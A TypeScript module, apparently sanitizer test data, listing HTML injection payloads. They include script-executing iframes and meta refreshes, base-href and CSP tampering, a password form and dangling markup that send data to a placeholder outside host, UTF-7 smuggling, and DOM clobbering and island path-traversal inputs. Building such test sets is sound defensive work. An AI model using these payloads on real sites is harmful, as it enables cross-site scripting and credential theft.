import { away, code, script } from './what-runs.ts';

export const documents = [
  `<base href="https://${away}/">`,
  `<base target=_blank href=//${away}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<meta http-equiv=refresh content="0;url=//${away}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv=set-cookie content="park_portal_token=x">`,
  `<meta charset=utf-7>+ADw-script+AD4-`,
  `<meta name=referrer content=unsafe-url>`,
  `<iframe srcdoc="${script}"></iframe>`,
  `<iframe srcdoc="&lt;script>${code}&lt;/script>"></iframe>`,
  `<iframe src="//${away}"></iframe>`,
  `<iframe sandbox=allow-scripts src="data:text/html,${script}"></iframe>`,
  `<object data="data:text/html,${script}"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<fencedframe src="//${away}"></fencedframe>`,
  `<frameset><frame src="javascript:${code}"></frameset>`,
  `<form action="//${away}"><input name=password><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${code}">x</button>`,
  `<img src="//${away}/a.png">`,
  `<img srcset="//${away}/b.png 1x">`,
  `<picture><source srcset="//${away}/c.png"><img></picture>`,
  `<video src="//${away}/a.mp4" autoplay></video>`,
  `<video><source src="//${away}/b.mp4"></video>`,
  `<link rel=dns-prefetch href="//${away}"><link rel=preconnect href="//${away}">`,
  `<a href="#" target="_blank" onclick="${code}">x</a>`,
  `<img src="//${away}/?`,
  `<input type=hidden accesskey=x onclick=${code}>`,
];

/** Names that the page's scripts look up, and attributes that activate parts of the page. */
export const clobbering = [
  ...['site-search', 'root', 'body', 'head', 'cookie', 'forms', 'getElementById', 'querySelector'].map(
    (name) => `<p id="${name}" name="${name}">x</p>`,
  ),
  '<form id=document><input name=cookie><input name=body></form>',
  '<a id=location href="//elsewhere.example"></a><a id=location name=href></a>',
  '<img name=currentScript><img name=defaultView>',
  '<form name=constructor><input name=prototype>',
  `<div data-island="site/public/frame/MainNavigation" data-props="{}"></div>`,
  `<div data-island="home/public/NewsTabs" data-start="load" data-props='{"tabs":[]}'></div>`,
  `<div data-island="../../elsewhere" data-start="load"></div>`,
  `<script type="application/json" data-state>{"x":1}</script>`,
  `<script id=__vite_preload type=module src=/assets/x.js></script>`,
];
